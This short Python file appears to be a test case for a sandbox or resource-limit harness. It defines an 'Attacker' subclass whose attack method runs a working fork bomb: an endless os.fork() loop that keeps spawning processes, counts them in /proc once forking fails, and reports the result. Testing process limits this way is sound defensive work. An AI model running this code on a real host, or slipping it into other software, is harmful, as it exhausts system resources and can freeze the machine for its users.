"""A fork bomb: every process makes more, none ends."""

import errno
import os
import time

from kit import Attacker, report


class Model(Attacker):
    def attack(self):
        self.save("one.npy", self.npy(0.5))
        refused = False
        while True:
            try:
                os.fork()
            except OSError as error:
                if not refused:
                    alive = sum(name.isdigit() for name in os.listdir("/proc"))
                    report("resources/forks", f"{alive} processes, then {errno.errorcode[error.errno]}")
                refused = True
                time.sleep(0.05)
